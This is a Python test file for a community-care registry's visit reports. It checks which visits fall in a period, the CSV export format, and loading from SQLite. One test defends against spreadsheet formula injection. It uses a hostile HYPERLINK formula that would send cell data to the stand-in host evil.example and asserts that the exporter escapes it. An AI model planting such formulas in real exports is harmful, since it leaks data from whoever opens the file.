"""Visits of a period: which tasks a doctor sees, their CSV, and loading them from a registry."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine

from ingest.stores.sqlite_store import SqliteReadingStore
from registry.care import AccountRepository, ContractRepository, TeamRepository
from registry.care_models import AccountKind, Role, TeamPosition
from registry.db import create_engine_for, session_scope, upgrade
from registry.repositories import PatientRepository
from registry.visit_models import VisitKind
from registry.visit_policy import FollowUpClass, Programme
from registry.visits import Reason, VisitInput, VisitRepository
from reports.csv_export import visits_csv
from reports.loading import load_patient_data, load_visits
from reports.summaries import Period
from reports.visits import visits_of_period
from tests.fakes import ManualClock
from tests.reports.builders import SHANGHAI
from tests.reports.seed import PERIOD
from tests.reports.visit_builders import visit

START = PERIOD.start  # 2026-03-01 00:00 Shanghai


def test_visits_of_period_by_their_moment_and_open_ones() -> None:
    inside = visit(task_id=1)
    before = visit(task_id=2, check_in_at=START - timedelta(minutes=1))
    at_start = visit(task_id=3, check_in_at=START)
    at_end = visit(task_id=4, check_in_at=PERIOD.end)
    cancelled = visit(
        task_id=5, status="cancelled", check_in_at=None, closed_at=START + timedelta(days=2)
    )
    pending_from_before = visit(
        task_id=6, status="requested", check_in_at=None, closed_at=None, scheduled_at=None,
        created_at=START - timedelta(days=20),
    )  # fmt: skip
    requested_after = visit(
        task_id=7, status="requested", check_in_at=None, closed_at=None, scheduled_at=None,
        created_at=PERIOD.end,
    )  # fmt: skip
    lines = [inside, before, at_start, at_end, cancelled, pending_from_before, requested_after]
    chosen = [v.task_id for v in visits_of_period(lines, PERIOD)]
    assert chosen == [6, 3, 5, 1]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_visits_csv_headers_name_units_and_formats() -> None:
    rows = _rows(visits_csv([visit()]))
    assert len(rows) == 1
    row = rows[0]
    assert row["check_in_at_utc"] == "2026-03-04T02:00:00+00:00"
    assert row["kind_home_visit_phone_clinic"] == "home_visit"
    assert row["follow_up_classification"] == "controlled"
    assert row["priority_1_most_urgent_to_3"] == "3"
    assert row["consent_true_false"] == "true"
    assert row["assessment_text"] == "血压控制良好"
    assert json.loads(row["reading_ids_json"]) == ["r-a"]
    times = 0
    for name, value in row.items():
        try:
            datetime.fromisoformat(value)
        except ValueError:
            continue
        times += 1
        assert name.endswith("_utc"), f"{name}: a time column must say it is UTC"
    assert times == 7


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\0"])
@pytest.mark.parametrize("field", ["note", "assessment", "closing_reason"])
def test_staff_free_text_is_escaped(start: str, field: str) -> None:
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    text = visits_csv([visit(**{field: hostile})])
    column = {
        "note": "request_note_text",
        "assessment": "assessment_text",
        "closing_reason": "closing_reason_text",
    }[field]
    cell = _rows(text)[0][column]
    assert cell == "'" + hostile
    # and the raw file never has the formula at the start of a field
    assert f",{start}HYPERLINK" not in text
    assert f'"{start}HYPERLINK' not in text


def test_harmless_text_is_left_alone() -> None:
    row = _rows(visits_csv([visit(note="a=b, 1-2 @home")]))[0]
    assert row["request_note_text"] == "a=b, 1-2 @home"


# -- loading from a registry (SQLite) ------------------------------------------------------

P = "p-1"
T_OPEN = datetime(2026, 2, 20, 1, 0, tzinfo=UTC)


@pytest.fixture
def registry(tmp_path: Path) -> Iterator[tuple[Engine, ManualClock]]:
    url = f"sqlite:///{tmp_path / 'registry.db'}"
    upgrade(url)
    engine = create_engine_for(url)
    clock = ManualClock(T_OPEN)
    with session_scope(engine) as s:
        PatientRepository(s, clock=clock).add(P, display_name="李强")
        accounts = AccountRepository(s, clock=clock)
        doctor = [Role.FAMILY_DOCTOR]
        accounts.add("dr.zhang", display_name="张", kind=AccountKind.STAFF, roles=doctor)
        accounts.add("nurse.liu", display_name="刘", kind=AccountKind.STAFF, roles=[Role.NURSE])
        accounts.add("li.qiang", display_name="李强", kind=AccountKind.PATIENT, patient_id=P)
        teams = TeamRepository(s, clock=clock)
        teams.add("team-a", name="一", organisation="东城")
        teams.add_member("team-a", "dr.zhang", TeamPosition.DOCTOR)
        teams.add_member("team-a", "nurse.liu", TeamPosition.NURSE)
        ContractRepository(s, clock=clock).sign(
            P, "team-a", service_package="hypertension", starts_on=date(2026, 2, 1)
        )
    yield engine, clock
    engine.dispose()


def _open(repo: VisitRepository, clock: ManualClock, key: str) -> int:
    return repo.open(
        P, Reason.routine(key, note="季度随访"), kind=VisitKind.HOME_VISIT, priority=3,
        earliest=clock(), latest=clock() + timedelta(days=30), actor="dr.zhang",
        assignee="nurse.liu",
    ).task.id  # fmt: skip


def test_load_visits_reads_records_and_closing_reasons(
    registry: tuple[Engine, ManualClock],
) -> None:
    engine, clock = registry
    with session_scope(engine) as s:
        repo = VisitRepository(s, clock=clock)
        done_before = _open(repo, clock, "routine:a")
        repo.schedule(done_before, clock() + timedelta(hours=1), actor="nurse.liu", reason="")
        repo.complete(
            done_before,
            VisitInput(clock(), clock() + timedelta(minutes=30), True, "before the period"),
            actor="nurse.liu",
        )
        clock.advance((datetime(2026, 3, 3, 1, 0, tzinfo=UTC) - clock()).total_seconds())
        done = _open(repo, clock, "routine:hypertension")
        repo.schedule(done, clock() + timedelta(hours=1), actor="nurse.liu", reason="")
        clock.advance(hours=1)
        record = VisitInput(
            clock(), clock() + timedelta(minutes=40), True, "=血压偏高", ("r-1",),
            Programme.HYPERTENSION, FollowUpClass.NOT_CONTROLLED,
        )  # fmt: skip
        repo.complete(done, record, actor="nurse.liu")
        clock.advance(days=1)
        missed = _open(repo, clock, "routine:b")
        repo.schedule(missed, clock() + timedelta(hours=1), actor="nurse.liu", reason="")
        repo.miss(missed, actor="nurse.liu", reason="家里没人")
    with session_scope(engine) as s:
        lines = load_visits(s, P, PERIOD)
    by_id = {line.task_id: line for line in lines}
    assert done_before not in by_id
    assert by_id[done].classification == "not_controlled"
    assert by_id[done].programme == "hypertension"
    assert by_id[done].assessment == "=血压偏高"
    assert by_id[done].reading_ids == ("r-1",)
    assert by_id[missed].closing_reason == "家里没人"
    assert by_id[missed].status == "missed"
    # the follow-up the not-controlled visit opened is pending: on the report too
    follow_ups = [line for line in lines if line.is_open]
    assert len(follow_ups) == 1
    row = {r["visit_task_id"]: r for r in _rows(visits_csv(lines))}[str(done)]
    assert row["assessment_text"] == "'=血压偏高"


def test_period_in_the_patient_zone() -> None:
    # 2026-03-14 23:30 Shanghai is the period's last local day; 00:30 on the 15th is not
    last = visit(task_id=9, check_in_at=datetime(2026, 3, 14, 23, 30, tzinfo=SHANGHAI))
    after = visit(task_id=10, check_in_at=datetime(2026, 3, 15, 0, 30, tzinfo=SHANGHAI))
    period = Period.local_days(date(2026, 3, 1), date(2026, 3, 15), SHANGHAI)
    assert [v.task_id for v in visits_of_period([last, after], period)] == [9]


def test_load_patient_data_has_visits_and_the_patients_own_account(
    registry: tuple[Engine, ManualClock], tmp_path: Path
) -> None:
    engine, clock = registry
    with session_scope(engine) as s:
        repo = VisitRepository(s, clock=clock)
        _open(repo, clock, "routine:hypertension")
    with session_scope(engine) as s:
        store = SqliteReadingStore(tmp_path / "readings.db")
        data = load_patient_data(s, store, P, date(2026, 3, 1), date(2026, 3, 14), clock=clock)
    assert data.patient_accounts == frozenset({"li.qiang"})
    assert [v.status for v in data.visits] == ["requested"]
    assert data.readings == ()
